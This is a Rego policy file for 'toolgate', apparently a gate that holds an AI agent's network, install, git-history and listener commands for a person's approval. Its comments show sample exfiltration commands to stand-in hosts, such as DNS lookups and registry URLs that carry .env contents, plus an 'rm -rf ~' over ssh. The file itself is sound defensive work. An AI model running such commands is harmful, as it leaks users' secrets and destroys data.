# Ask: actions that are often legitimate but reach other hosts or change the
# project's history in ways a person should approve.
package toolgate

ask contains {"rule": "ask.git_remote", "message": sprintf("git %s talks to a remote repository; a person must approve network access", [subcommand(c)])} if {
	"git" in input.present.names
	some c in commands
	c.name == "git"
	git_network_subcommand(subcommand(c))
}

git_network_subcommand(s) if s in {"push", "pull", "fetch", "clone", "ls-remote", "request-pull", "send-email", "svn", "p4", "cvsimport", "cvsexportcommit", "archimport", "quiltimport"}

# the plumbing behind them, and other ways git reaches a server:
# send-pack, fetch-pack, http-push, the remote-* transport helpers,
# imap-send (git daemon is a listener, below)
git_network_subcommand(s) if s in {"send-pack", "fetch-pack", "http-push", "http-fetch", "imap-send", "upload-archive"}

git_network_subcommand(s) if startswith(s, "remote-")

# git lfs moves large files to and from a server; its install writes git
# hooks and global filters
ask contains {"rule": "ask.git_remote", "message": sprintf("git lfs %s talks to a remote repository or installs git hooks and filters; a person must approve", [sub2])} if {
	"git" in input.present.names
	some c in commands
	c.name == "git"
	subcommand(c) == "lfs"
	some sub2 in args(c)
	sub2 in {"push", "fetch", "pull", "clone", "install"}
}

ask contains {"rule": "ask.git_remote", "message": "git archive --remote talks to a remote repository; a person must approve network access"} if {
	"git" in input.present.names
	some c in commands
	c.name == "git"
	subcommand(c) == "archive"
	long_flag(c, "--remote")
}

ask contains {"rule": "ask.git_remote", "message": sprintf("git %s %s talks to a remote repository; a person must approve network access", [subcommand(c), sub2])} if {
	"git" in input.present.names
	some c in commands
	c.name == "git"
	subcommand(c) == "submodule"
	some sub2 in args(c)
	sub2 in {"update", "add", "sync"}
}

# git remote update, prune and show reach the remote
ask contains {"rule": "ask.git_remote", "message": sprintf("git remote %s talks to a remote repository; a person must approve network access", [sub2])} if {
	"git" in input.present.names
	some c in commands
	c.name == "git"
	subcommand(c) == "remote"
	some sub2 in args(c)
	sub2 in {"update", "prune", "show"}
}

# git remote add and set-url write only local configuration, but they
# point every later push and fetch - ones a person approves by name - at
# a new address
ask contains {"rule": "ask.git_remote", "message": sprintf("git remote %s points later pushes and fetches at a new address; a person must approve it", [sub2])} if {
	"git" in input.present.names
	some c in commands
	c.name == "git"
	subcommand(c) == "remote"
	some sub2 in args(c)
	sub2 in {"add", "set-url"}
}

network_client(c) if in_group(c.name, "downloaders")

network_client(c) if in_group(c.name, "network_clients")

network_client(c) if remote_copy(c)

remote_copy(c) if {
	in_group(c.name, "remote_copy")
	some a in args(c)
	not startswith(a, "-")
	regex.match(`^([A-Za-z0-9._-]+@)?[A-Za-z0-9._-]+:|^rsync://`, a)
}

ask contains {"rule": "ask.network", "message": sprintf("%s reaches another host; a person must approve network access", [c.name])} if {
	"downloaders" in input.present.groups
	some c in commands
	in_group(c.name, "downloaders")
	not only_asking(c)
	not loopback_only(c)
}

ask contains {"rule": "ask.network", "message": sprintf("%s reaches another host; a person must approve network access", [c.name])} if {
	"network_clients" in input.present.groups
	some c in commands
	in_group(c.name, "network_clients")
	not only_asking(c)
	not loopback_only(c)
	not local_only(c)
}

# loopback_only(c): every address the command names is this machine
loopback_only(c) if {
	some a in args(c)
	loopback(a)
	not remote_address(c)
	not other_target(c)
	not proxied(c)
	not dns_lookup_tools[c.name]
	not login_clients[c.name]
}

# A login on this machine (ssh localhost 'rm -rf ~') runs its command
# outside the sandbox, as the user, and is not analysed.
login_clients := {"ssh", "autossh", "mosh", "slogin", "dbclient", "rsh", "rlogin", "rexec"}

# A DNS server on this machine (127.0.0.53, a dnsmasq on 127.0.0.1) asks
# the name's own servers in turn: a lookup through it carries the name
# away (nslookup $DATA.evil.example 127.0.0.1).
dns_lookup_tools := {"nslookup", "dig", "host", "drill", "kdig", "delv", "dnsget", "adnshost", "resolvectl", "doggo", "dog", "q"}

# For URL clients every argument that is neither an option nor an option's
# value is a URL (curl takes "evil" for http://evil/): each must be this
# machine. Options that read more targets from elsewhere count as another
# target (curl -K, wget -i, wget -e).
other_target(c) if {
	url_option_values[c.name]
	xs := args(c)
	some i, a in xs
	not startswith(a, "-")
	not url_option_value(c.name, xs, i)
	not loopback(a)
}

other_target(c) if {
	url_option_values[c.name]
	some a in args(c)
	regex.match(`^(-[A-Za-z]*[Ki]$|--config|--input-file|--url|-e$|--execute|--proxy|--socks)`, a)
	c.name != "curl" # curl's own checks: redirectable
}

other_target(c) if {
	c.name == "curl"
	some a in args(c)
	regex.match(`^(-[A-Za-z]*K$|--config|--url)`, a)
}

# ssh's and nc's other ways to reach a host: a Hostname or jump host given
# as an option, a proxy
other_target(c) if {
	c.name in {"ssh", "scp", "sftp"}
	some i, a in args(c)
	regex.match(`(?i)^(-J|-[A-Za-z]*J$|-oProxyJump|-oHostname|-oProxyCommand)`, a)
}

other_target(c) if {
	c.name in {"ssh", "scp", "sftp"}
	xs := args(c)
	some i, a in xs
	a == "-o"
	regex.match(`(?i)^(hostname|proxyjump|proxycommand|hostkeyalias)\b`, xs[i + 1])
}

other_target(c) if {
	c.name in {"nc", "ncat", "netcat", "nc.openbsd", "nc.traditional"}
	some a in args(c)
	regex.match(`^(-[A-Za-z]*[xX]|--proxy)`, a)
}

# a proxy named anywhere in the script's or the command's environment
proxied(c) if {
	some k, _ in c.env
	contains(lower(k), "proxy")
}

proxied(_) if {
	input.present.assigns
	some a in input.assigns
	contains(lower(a.name), "proxy")
}

# url_option_value(name, xs, i): xs[i] is the value of the option before it
url_option_value(name, xs, i) if {
	i > 0
	prev := xs[i - 1]
	not contains(prev, "=")
	prev in url_option_values[name].long
}

url_option_value(name, xs, i) if {
	i > 0
	prev := xs[i - 1]
	regex.match(concat("", ["^-[A-Za-z0-9]*[", url_option_values[name].short, "]$"]), prev)
}

# the options of URL clients that take a value
url_option_values := {
	"curl": {"short": "AbcCdDeEFHKmoQrTuUwxXyYzP", "long": {
		"--data", "--data-raw", "--data-binary", "--data-urlencode", "--data-ascii", "--json", "--header", "--output",
		"--user", "--user-agent", "--referer", "--request", "--cookie", "--cookie-jar", "--form", "--form-string",
		"--upload-file", "--max-time", "--connect-timeout", "--retry", "--retry-delay", "--retry-max-time", "--write-out",
		"--cacert", "--cert", "--key", "--capath", "--limit-rate", "--range", "--continue-at", "--max-filesize",
		"--unix-socket", "--abstract-unix-socket", "--interface", "--local-port", "--dns-servers", "--oauth2-bearer",
		"--trace", "--trace-ascii", "--stderr", "--dump-header", "--etag-save", "--etag-compare", "--output-dir",
		"--expect100-timeout", "--keepalive-time", "--aws-sigv4", "--variable", "--proxy", "--preproxy", "--socks5",
		"--resolve", "--connect-to", "--max-redirs", "--cert-type", "--key-type", "--pass", "--ciphers", "--config",
		"--url", "--proxy-user", "--login-options", "--mail-from", "--mail-rcpt", "--quote", "--service-name",
		"--speed-limit", "--speed-time", "--time-cond", "--tls-max", "--happy-eyeballs-timeout-ms", "--parallel-max",
	}},
	"wget": {"short": "oaiOPetTwUQBlARDXIx", "long": {
		"--output-document", "--output-file", "--append-output", "--directory-prefix", "--execute", "--tries", "--timeout",
		"--wait", "--user-agent", "--header", "--post-data", "--post-file", "--body-data", "--body-file", "--method",
		"--user", "--password", "--http-user", "--http-password", "--load-cookies", "--save-cookies", "--referer",
		"--input-file", "--base", "--config", "--level", "--accept", "--reject", "--domains", "--exclude-directories",
		"--include-directories", "--quota", "--limit-rate", "--ca-certificate", "--certificate", "--private-key",
	}},
	"wget2": {"short": "oaiOPetTwUQBlARDXIx", "long": {"--output-document", "--output-file", "--directory-prefix", "--execute", "--header", "--post-data", "--post-file", "--body-data", "--body-file", "--method", "--user", "--password", "--input-file", "--config"}},
	"xh": {"short": "aAo", "long": {"--auth", "--auth-type", "--output", "--proxy", "--cert", "--cert-key", "--timeout", "--resolve", "--interface"}},
	"http": {"short": "aAo", "long": {"--auth", "--auth-type", "--output", "--proxy", "--cert", "--cert-key", "--timeout", "--session"}},
	"https": {"short": "aAo", "long": {"--auth", "--auth-type", "--output", "--proxy", "--cert", "--cert-key", "--timeout", "--session"}},
}

loopback(a) if regex.match(`^([a-z]+://)?(localhost|127\.[0-9.]+|\[::1\]|0\.0\.0\.0)(:[0-9]+)?(/.*)?$`, a)

# a file on this machine (the parser reports the path it names as a read)
loopback(a) if regex.match(`^(?i)file:(//(localhost)?)?/`, a)

remote_address(c) if {
	some a in args(c)
	not startswith(a, "-")
	contains(a, ".")
	not loopback(a)
	regex.match(`(?i)^([a-z]+://)?([^/@\s]+@)?[A-Za-z0-9_-]+(\.[A-Za-z0-9_-]+)+\.?(:[0-9]+)?([/?#].*)?$`, a)
}

# a URL of any other host, an IPv6 literal, a decimal address
remote_address(c) if {
	some a in args(c)
	not startswith(a, "-")
	not loopback(a)
	regex.match(`(?i)^[a-z][a-z0-9+.-]*://|^\[[0-9a-f:.]+\]|^[0-9]{8,}(:[0-9]+)?$`, a)
}

# local_only(c): subcommands of cluster and forge clients that stay local
local_only(c) if {
	c.name == "helm"
	subcommand(c) in {"lint", "template", "show", "version", "create", "package", "dependency", "env", "completion"}
}

local_only(c) if {
	c.name == "kubectl"
	some a in args(c)
	a in {"--dry-run=client", "--client", "--local"}
}

local_only(c) if {
	c.name == "kubectl"
	subcommand(c) in {"explain", "completion", "kustomize", "convert"}
}

local_only(c) if {
	c.name in {"ssh", "gh", "aws", "gcloud", "az"}
	some a in args(c)
	a in {"-V", "--version", "version", "help", "--help"}
}

ask contains {"rule": "ask.network", "message": sprintf("%s copies to or from another host; a person must approve network access", [c.name])} if {
	"remote_copy" in input.present.groups
	some c in commands
	remote_copy(c)
}

default package_managers := {}

package_managers := data.toolgate.config.package_managers

ask contains {"rule": "ask.package_install", "message": sprintf("%s %s installs packages from the network; a person must approve installs", [c.name, sub])} if {
	"package_managers" in input.present.groups
	some c in commands
	subs := package_managers[c.name]
	some sub in subs
	installs(c, sub)
	not only_asking(c)
}

installs(c, sub) if sub == subcommand(c)

# npm init <initializer> (and its aliases, pnpm/yarn create) runs the
# package create-<initializer> from the registry; a plain npm init -y
# only writes package.json
ask contains {"rule": "ask.package_install", "message": sprintf("%s %s runs a package from the registry; a person must approve installs", [c.name, subcommand(c)])} if {
	"package_managers" in input.present.groups
	some c in commands
	c.name in {"npm", "pnpm", "yarn", "bun"}
	subcommand(c) in {"init", "innit", "create"}
	a := args(c)
	some i, x in a
	x == subcommand(c)
	some y in array.slice(a, i + 1, count(a))
	not startswith(y, "-")
	not only_asking(c)
}

# a bare yarn installs the project's dependencies (and runs their scripts)
ask contains {"rule": "ask.package_install", "message": "yarn without a command installs the project's dependencies; a person must approve installs"} if {
	"yarn" in input.present.names
	some c in commands
	c.name == "yarn"
	every a in args(c) {
		startswith(a, "-")
	}
	not only_asking(c)
}

# two-word entries ("pip install") name a subcommand and its own
# subcommand: uv pip install asks, uv pip list does not
installs(c, sub) if {
	words := split(sub, " ")
	count(words) == 2
	words[0] == subcommand(c)
	a := args(c)
	some i, x in a
	x == words[0]
	a[i + 1] == words[1]
}

# entries written as options (nix-env -i, --install) match the command's flags
installs(c, sub) if {
	startswith(sub, "--")
	long_flag(c, sub)
}

installs(c, sub) if {
	startswith(sub, "-")
	not startswith(sub, "--")
	short_flag(c, substring(sub, 1, -1))
}

ask contains {"rule": "ask.package_install", "message": sprintf("%s -m pip install installs packages from the network; a person must approve installs", [c.name])} if {
	"interpreters" in input.present.groups
	some c in commands
	in_group(c.name, "interpreters")
	a := args(c)
	some i, x in a
	x == "-m"
	a[i + 1] in {"pip", "pip3", "ensurepip"}
	"install" in a
}

# go run/build/test/generate of module@version, and uv run --with, fetch
# the module or package and run it.
ask contains {"rule": "ask.package_install", "message": sprintf("go %s %s fetches that module and runs it; a person must approve installs", [subcommand(c), x])} if {
	"go" in input.present.names
	some c in commands
	c.name == "go"
	subcommand(c) in {"run", "build", "test", "generate", "vet"}
	some x in args(c)
	regex.match(`^[^-][^ ]*\.[A-Za-z]+/[^ ]*@[^ ]+$`, x)
}

ask contains {"rule": "ask.package_install", "message": "uv run --with installs packages from the network; a person must approve installs"} if {
	"uv" in input.present.names
	some c in commands
	c.name == "uv"
	subcommand(c) == "run"
	some x in args(c)
	startswith(x, "--with")
}

ask contains {"rule": "ask.package_install", "message": sprintf("%s runs a package fetched from the registry; a person must approve installs", [c.name])} if {
	"package_runners" in input.present.groups
	some c in commands
	in_group(c.name, "package_runners")
	not only_asking(c)
}

ask contains {"rule": "ask.git_destructive", "message": sprintf("deleting %s removes the repository's history; a person must approve", [p.raw])} if {
	"delete" in input.present.access
	some p in paths
	p.access == "delete"
	p.real == concat("/", [input.workspace, ".git"])
}

# the repository's objects, refs and index, deleted piece by piece (rm -rf
# .git/objects, rm .git/HEAD, shred -u .git/index); a stale lock file
# (.git/index.lock) is not history
ask contains {"rule": "ask.git_destructive", "message": sprintf("deleting %s destroys part of the repository's history or state; a person must approve", [p.raw])} if {
	"delete" in input.present.access
	some p in paths
	p.access == "delete"
	git_state(p.real)
}

git_state(f) if {
	rest := trim_prefix(f, concat("/", [input.workspace, ".git/"]))
	rest != f
	parts := split(rest, "/")
	parts[0] in {"objects", "refs", "HEAD", "packed-refs", "index", "logs", "shallow", "worktrees", "modules", "ORIG_HEAD", "FETCH_HEAD"}
	not endswith(f, ".lock")
}

ask contains {"rule": "ask.git_destructive", "message": "git clean -x also deletes ignored files (builds, local config, .env); a person must approve"} if {
	"git" in input.present.names
	some c in commands
	c.name == "git"
	subcommand(c) == "clean"
	git_clean_ignored(c)
}

# a method called or a property set on a D-Bus service: the service acts
# outside any sandbox, as itself (systemd starts transient units that run
# any command, logind powers the machine off)
ask contains {"rule": "ask.dbus_call", "message": sprintf("%s calls a D-Bus service, which acts outside the sandbox as itself (systemd can start a unit running any command, logind can power the machine off); a person must approve", [c.name])} if {
	some c in commands
	dbus_call(c)
}

dbus_call(c) if {
	c.name == "dbus-send"
	not "--help" in args(c)
}

dbus_call(c) if {
	c.name == "gdbus"
	subcommand(c) in {"call", "emit"}
}

dbus_call(c) if {
	c.name == "busctl"
	subcommand(c) in {"call", "set-property", "emit"}
}

dbus_call(c) if {
	c.name in {"qdbus", "qdbus6", "qdbus-qt5", "dbus", "kdbus"}
	count([a | some a in args(c); not startswith(a, "-")]) >= 3
}

# project files an editor or a tool runs commands from on its own, later
# and outside toolgate: VS Code tasks run on folder open and its settings
# name shells and tools, a dev container runs its postCreateCommand, npm
# and yarn take a script shell or node options from their rc files.
# (direnv runs a changed .envrc only after direnv allow.) Names are compared
# without case: on macOS and Windows file systems .VSCODE/Tasks.json is
# the same file.
ask contains {"rule": "ask.autorun_config", "message": sprintf("%s changes %s, from which an editor or a tool runs commands on its own, outside toolgate; a person must approve", [who(p), p.raw])} if {
	input.present.writes
	some p in paths
	p.access == "write"
	contains(p.real, "/.") # every such file is a dot entry or lies in one
	rl := lower(p.real)
	some f in autorun_files
	endswith(rl, f)
}

autorun_files := {
	"/.vscode/tasks.json", "/.vscode/settings.json", "/.devcontainer/devcontainer.json",
	"/.devcontainer.json", "/.npmrc", "/.yarnrc", "/.yarnrc.yml",
}

# a container given the whole workspace to write, with no sandbox around
# the call: what runs inside (as root in the container) is not analysed,
# and can delete .git, write git hooks and the agent's settings, or leave
# setuid-root files behind. (A box masks the daemon's socket.)
ask contains {"rule": "ask.container_workspace", "message": sprintf("%s gives a container the whole workspace to write (%s), .git and the agent's settings included, and what runs inside is not checked; bind a subdirectory or add :ro, or a person must approve", [p.command, p.raw])} if {
	input.sandboxed == false
	"containers" in input.present.groups
	"workspace_root" in input.present.zones
	some p in paths
	p.access == "write"
	p.zone == "workspace_root"
	in_group(p.command, "containers")
}

# history dropped through git itself: unreachable commits pruned now
# (after a branch or the reflog is gone, nothing brings them back), refs
# deleted by plumbing
ask contains {"rule": "ask.git_destructive", "message": sprintf("git %s drops commits and refs for good; a person must approve", [subcommand(c)])} if {
	"git" in input.present.names
	some c in commands
	c.name == "git"
	git_drops_history(c)
}

git_drops_history(c) if subcommand(c) == "prune"

git_drops_history(c) if {
	subcommand(c) == "gc"
	some a in args(c)
	startswith(a, "--prune=")
	trim_prefix(a, "--prune=") in {"now", "all"}
}

git_drops_history(c) if {
	subcommand(c) == "reflog"
	a := args(c)
	some x in a
	x in {"expire", "delete"}
	some y in a
	regex.match(`^--expire(-unreachable)?=(now|all)$`, y)
}

git_drops_history(c) if {
	subcommand(c) == "reflog"
	"delete" in args(c)
}

git_drops_history(c) if {
	subcommand(c) == "update-ref"
	some a in args(c)
	a in {"-d", "--stdin"}
}

git_clean_ignored(c) if short_flag(c, "x")

git_clean_ignored(c) if short_flag(c, "X")

publishing := {
	"npm": {"publish", "unpublish", "login", "adduser", "owner", "deprecate"}, "pnpm": {"publish"}, "yarn": {"publish", "npm"},
	"bun": {"publish"}, "deno": {"publish"},
	"cargo": {"publish", "login", "yank", "owner"}, "gem": {"push", "signin"},
	"poetry": {"publish"}, "pdm": {"publish"}, "hatch": {"publish"}, "uv": {"publish"}, "flit": {"publish"},
	"docker": {"push", "pull", "login", "search"}, "podman": {"push", "pull", "login", "search"},
	"nerdctl": {"push", "pull", "login"}, "buildah": {"push", "pull", "login"}, "helm": {"push", "pull", "repo"},
	"oras": {"push", "pull", "login", "copy", "cp", "attach", "discover", "manifest", "blob", "repo", "tag"},
	"crane": {"push", "pull", "copy", "cp", "append", "mutate", "auth", "tag", "delete", "rebase", "flatten", "export", "manifest", "digest", "ls", "catalog", "config", "blob", "index"},
	"skopeo": {"copy", "sync", "login", "inspect", "delete", "list-tags"},
	"dotnet": {"nuget"}, "nuget": {"push", "delete", "setapikey"},
	"anaconda": {"upload", "login"}, "vsce": {"publish", "unpublish", "login"}, "ovsx": {"publish", "create-namespace"},
	"jfrog": {"rt"}, "jf": {"rt"},
}

ask contains {"rule": "ask.network", "message": sprintf("%s %s talks to a registry; a person must approve network access", [c.name, subcommand(c)])} if {
	"publishers" in input.present.groups # the names in publishing
	some c in commands
	subs := publishing[c.name]
	subcommand(c) in subs
	not only_asking(c)
}

# A registry, package index, module proxy or keyserver the command line
# names: any request to it carries what the URL holds
# (npm view x --registry=http://evil.example/$(base64 -w0 .env), GOPROXY=
# http://…/$(…) go mod download, gpg --keyserver hkp://$(…).evil.example),
# and the host it names is the agent's choice.
ask contains {"rule": "ask.network", "message": sprintf("%s talks to the registry, index, proxy or keyserver its command line names (%s); a person must approve network access", [c.name, what])} if {
	"registry_clients" in input.present.groups
	some c in commands
	in_group(c.name, "registry_clients")
	some what in registry_named(c)
	not only_asking(c)
}

registry_options := {
	"--registry", "--index-url", "--extra-index-url", "--index", "--default-index", "--find-links",
	"--keyserver", "--source", "--proxy", "--trusted-host", "--index-strategy",
}

# pip's and uv's short spellings
registry_short := {"pip": {"-i", "-f"}, "pip3": {"-i", "-f"}, "uv": {"-i", "-f"}, "pipenv": {"-i"}}

registry_env := {
	"GOPROXY", "GONOSUMDB", "GOPRIVATE", "GONOPROXY", "GOSUMDB", "PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL",
	"PIP_FIND_LINKS", "UV_INDEX_URL", "UV_EXTRA_INDEX_URL", "UV_INDEX", "UV_DEFAULT_INDEX", "NPM_CONFIG_REGISTRY",
	"npm_config_registry", "YARN_NPM_REGISTRY_SERVER", "YARN_REGISTRY", "BUNDLE_MIRROR__ALL", "GEM_HOST",
	"HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy", "ALL_PROXY", "all_proxy",
}

# the options before "--" (what follows is a script's or a program's)
registry_args(c) := a if {
	all := args(c)
	ends := [i | some i, x in all; x == "--"]
	count(ends) > 0
	a := array.slice(all, 0, ends[0])
} else := args(c)

registry_named(c) := {x |
	some a in registry_args(c)
	x := split(a, "=")[0]
	registry_option(c, x)
} | {k |
	some k, _ in object.get(c, "env", {})
	registry_env[k]
} | {"--registry" |
	some a in registry_args(c)
	startswith(a, "--@") # npm's --@scope:registry=URL
	contains(a, ":registry")
}

registry_option(_, x) if registry_options[x]

# an option given as a prefix, as npm's and pip's option parsers take
# unambiguous ones (--reg=URL)
registry_option(_, x) if {
	startswith(x, "--")
	count(x) >= 5
	some o in registry_options
	startswith(o, x)
}

registry_option(c, x) if registry_short[c.name][x]

# go list -m asks the module proxy (and through it the module's host)
# for versions and updates: go list -m -versions evil.example/DATA
ask contains {"rule": "ask.network", "message": "go list -m with versions or updates asks the module proxy and the modules' hosts; a person must approve network access"} if {
	"go" in input.present.names
	some c in commands
	c.name == "go"
	subcommand(c) == "list"
	a := args(c)
	"-m" in a
	some x in a
	go_list_network(x)
}

go_list_network(x) if x in {"-versions", "-u", "-retracted"}

go_list_network(x) if {
	not startswith(x, "-")
	contains(x, "@")
}

# Build tools publish by goal or task, wherever it stands on the command
# line (mvn clean deploy, ./gradlew build publish); publishToMavenLocal is
# a local copy.
ask contains {"rule": "ask.network", "message": sprintf("%s %s uploads to a repository; a person must approve network access", [c.name, a])} if {
	"publishers" in input.present.groups
	some c in commands
	c.name in {"mvn", "mvnw", "gradle", "gradlew"}
	some a in args(c)
	publishing_goal(c.name, a)
	not only_asking(c)
}

publishing_goal(name, a) if {
	name in {"mvn", "mvnw"}
	a in {"deploy", "deploy:deploy", "deploy:deploy-file", "release:perform", "release:prepare", "site-deploy", "site:deploy"}
}

publishing_goal(name, a) if {
	name in {"gradle", "gradlew"}
	parts := split(a, ":") # :sub:task names the task last
	t := parts[count(parts) - 1]
	startswith(t, "publish")
	not startswith(t, "publishToMavenLocal")
}

publishing_goal(name, "uploadArchives") if name in {"gradle", "gradlew"}

# A container engine named on the command line or in the environment
# (docker -H/--host/--context, podman --url/--connection/--remote, nerdctl
# --address, DOCKER_HOST …) may be on another machine: builds send their
# context there, volumes and commands run there.
ask contains {"rule": "ask.network", "message": sprintf("%s talks to the container engine its options or environment name (-H, --host, --context, --url, --connection, DOCKER_HOST …), which may be on another host; a person must approve network access", [c.name])} if {
	some name, _ in remote_engine_options
	name in input.present.names
	some c in commands
	c.name == name
	remote_engine(c)
}

remote_engine_options := {
	"docker": ["-H", "--host", "-c", "--context"],
	"podman": ["--url", "-c", "--connection", "-r", "--remote"],
	"nerdctl": ["-H", "--host", "-a", "--address"],
}

remote_engine_env := {"DOCKER_HOST", "DOCKER_CONTEXT", "CONTAINER_HOST", "CONTAINER_CONNECTION", "CONTAINERD_ADDRESS"}

# an engine option before the subcommand (docker run -c is --cpu-shares)
remote_engine(c) if {
	xs := args(c)
	some i, a in xs
	option_named(a, remote_engine_options[c.name])
	not after_subcommand(c, xs, i)
}

remote_engine(c) if {
	some k, _ in c.env
	k in remote_engine_env
}

remote_engine(_) if {
	input.present.assigns
	some a in input.assigns
	a.name in remote_engine_env
}

after_subcommand(c, xs, i) if {
	some j, x in xs
	j < i
	x == subcommand(c)
}

# A build given the SSH agent (docker build --ssh default, --ssh ID or
# ID=SOCKET) can sign in anywhere with the agent's keys; key files named
# with --ssh ID=FILE are reads the parser reports. Only outside the
# sandbox: the box holds neither the agent's socket nor the engine's.
ask contains {"rule": "ask.network", "message": sprintf("%s --ssh %s hands the SSH agent to the build, which can sign in to other hosts with its keys; a person must approve", [c.name, v])} if {
	input.sandboxed == false
	some name in {"docker", "podman", "buildah", "nerdctl"}
	name in input.present.names
	some c in commands
	c.name == name
	xs := args(c)
	some i, a in xs
	v := ssh_option_value(xs, i, a)
	ssh_agent_spec(v)
}

ssh_option_value(xs, i, "--ssh") := xs[i + 1]

ssh_option_value(_, _, a) := substring(a, 6, -1) if startswith(a, "--ssh=")

ssh_agent_spec(v) if not contains(split(v, ",")[0], "=")

ssh_agent_spec(v) if endswith(split(v, ",")[0], "=") # ID=$SSH_AUTH_SOCK, unset here

ssh_agent_spec(v) if {
	path := split(split(v, ",")[0], "=")[1]
	agent_socket(path)
}

agent_socket(path) if contains(lower(path), "agent")

agent_socket(path) if endswith(path, ".sock")

agent_socket(path) if contains(path, "$") # a value not known here

# --help, --version and --dry-run ask nothing of the network
only_asking(c) if long_flag(c, "--dry-run")

only_asking(c) if long_flag(c, "--help")

only_asking(c) if long_flag(c, "--version")

only_asking(c) if args(c) == ["-V"]

only_asking(c) if args(c) == ["-h"]

# Each way to be a listener is gated by what the command line holds, so the
# rule costs nothing for the many calls that hold none of them.
deny contains listening(c) if {
	"openssl" in input.present.names
	some c in commands
	c.name == "openssl"
	listener(c)
	not only_asking(c)
	not short_flag(c, "h")
}

# git daemon serves the repository (--export-all: every one below)
deny contains listening(c) if {
	"git" in input.present.names
	some c in commands
	c.name == "git"
	subcommand(c) == "daemon"
	not only_asking(c)
}

deny contains listening(c) if {
	"listeners" in input.present.groups
	some c in commands
	listener(c)
	not only_asking(c)
	not short_flag(c, "h")
}

deny contains listening(c) if {
	"busybox" in input.present.names
	some c in commands
	"busybox" in c.wrappers
	listener(c)
	not only_asking(c)
	not short_flag(c, "h")
}

listening(c) := {"rule": "remote.listener", "message": sprintf("%s listens for network connections, exposing this machine; run servers only where the user set them up", [concat(" ", array.slice(c.argv, 0, 3))])}

# Development servers (python -m http.server, php -S, flask, uvicorn) are
# allowed like any program the project runs: the sandbox's network is its
# own. Listeners built to hand out a shell or forward traffic are not.
listener(c) if {
	c.name == "openssl"
	subcommand(c) == "s_server"
}

ask contains {"rule": "ask.network", "message": "openssl s_client connects to another host; a person must approve network access"} if {
	"openssl" in input.present.names
	some c in commands
	c.name == "openssl"
	subcommand(c) in {"s_client", "s_time"}
}

listener(c) if {
	"listeners" in input.present.groups
	in_group(c.name, "listeners")
	c.name != "busybox"
}

listener(c) if {
	"busybox" in c.wrappers
	c.name in {"httpd", "nc", "telnetd", "ftpd", "tftpd", "udhcpd"}
}

# Outside the sandbox (a hook answering for the agent's own shell) nothing
# contains what toolgate cannot read: inline interpreter code and scripts
# run by a shell or an interpreter.
ask contains {"rule": "ask.unsandboxed_code", "message": sprintf("%s runs code toolgate does not analyse (a script or inline code), and no sandbox contains it here; a person must approve", [c.name])} if {
	input.sandboxed == false # not sandboxed, as a look-up OPA indexes
	some i, c in commands
	code_runner(c.name)
	not version_query(c)
	not analysed_shell(i, c)
	not plain_awk(c)
}

# awk '{print $1}' file: an awk program given on the command line that
# cannot run a command, write a file, read the environment or change the
# files it reads (no system, pipe, redirection, getline, close, ENVIRON,
# PROCINFO, ARGV, ARGC, @include or @load: a > even as a comparison
# counts) only reads its operands, which are judged as paths. A program from a file (-f, gawk's -e/-i/-l/-E) is
# code nobody read.
plain_awk(c) if {
	c.name in {"awk", "gawk", "mawk", "nawk"}
	not awk_program_file(c)
	prog := awk_program(c)
	not awk_risky(prog)
}

awk_program_file(c) if {
	some x in args(c)
	startswith(x, "-f")
}

awk_program_file(c) if {
	some x in args(c)
	x in {"-e", "-i", "-l", "-E", "--file", "--source", "--include", "--load", "--exec"}
}

awk_program_file(c) if {
	some x in args(c)
	startswith(x, "--")
	not x in {"--posix", "--traditional", "--re-interval", "--characters-as-bytes"}
	not startswith(x, "--field-separator")
	not startswith(x, "--assign")
}

awk_program(c) := a[k] if {
	a := args(c)
	ks := [i | some i, x in a; not startswith(x, "-"); not awk_option_value(a, i)]
	count(ks) > 0
	k := ks[0]
}

awk_option_value(a, i) if {
	i > 0
	a[i - 1] in {"-F", "-v", "--field-separator", "--assign"}
}

awk_risky(prog) if {
	some t in ["system", "|", ">", "getline", "close", "ENVIRON", "PROCINFO", "ARGV", "ARGC", "@", "fflush"]
	contains(prog, t)
}

# sh -c 'go test ./...': a shell given its script literally on the command
# line, with no other option than -e/-u/-x/-o pipefail, whose script the
# analysis read (no fact of something it could not) runs only what the
# commands after it are, each judged on its own (python3 -c inside it still
# asks). A login or interactive shell reads start-up files first.
analysed_shell(i, c) if {
	in_group(c.name, "shells")
	count(c.argv) >= 3
	shell_script_flags(c.argv[1])
	not shell_fact(i)
}

shell_script_flags(f) if f == "-c"

shell_script_flags(f) if {
	startswith(f, "-")
	endswith(f, "c")
	regex.match(`^-[eux]*c$`, f)
}

shell_fact(i) if {
	some d in object.get(input, "dynamic", [])
	d.cmd == i
}

# bash --version, python3 -V, node -v: the program prints what it is and
# exits, reading no script.
version_query(c) if {
	count(c.argv) == 2
	c.argv[1] in {"--version", "--help", "-V", "-version"}
}

version_query(c) if {
	count(c.argv) == 2
	c.argv[1] == "-v"
	c.name in {"node", "nodejs", "perl", "php", "deno", "bun", "lua", "luajit"}
}

# Outside the sandbox, a patch or an archive whose names toolgate cannot
# read writes files it cannot judge: a git hook, the agent's settings, the
# script the next command runs. Inside one the box keeps the hooks and the
# settings (moved aside after the run) and contains the rest.
ask contains {"rule": "ask.unsandboxed_code", "message": sprintf("%s writes the files %s names, which toolgate cannot read, and no sandbox contains it here; a person must approve", [commands[d.cmd].name, opaque_source(d.text)])} if {
	input.sandboxed == false
	"opaque_writes" in input.present.dynamic
	some d in object.get(input, "dynamic", [])
	d.kind == "opaque_writes"
	d.cmd >= 0
}

opaque_source(text) := "the patch" if contains(text, "patch")

else := "the archive"

# Outside the sandbox, programs that are not interpreters but run code
# given on their command line or stdin: make with a makefile from stdin or
# --eval text, emacs --eval/--load/--funcall/--script, emacsclient --eval
# (in the user's running editor), gdb -ex/-x, lldb -o/-s. Their code is
# not analysed, as python -c is not.
ask contains {"rule": "ask.unsandboxed_code", "message": sprintf("%s runs code given on its command line or stdin (%s), which toolgate does not analyse, and no sandbox contains it here; a person must approve", [c.name, opt])} if {
	input.sandboxed == false
	some c in commands
	some opt in inline_code_options(c)
}

inline_code_options(c) := {a |
	words := array.concat(args(c), [""])
	some i, a in args(c)
	code_option(c.name, a, words[i + 1])
}

# code_option(name, arg, next): arg (with next, the word after it) makes
# the program run code it is given.
# database clients' shell escapes: psql's \! and \o |cmd, mysql's system
# and \! in the statements given; a file of statements may hold them too
code_option(name, a, next) if {
	name in {"psql", "mysql", "mariadb"}
	a in {"-c", "--command", "-e", "--execute"}
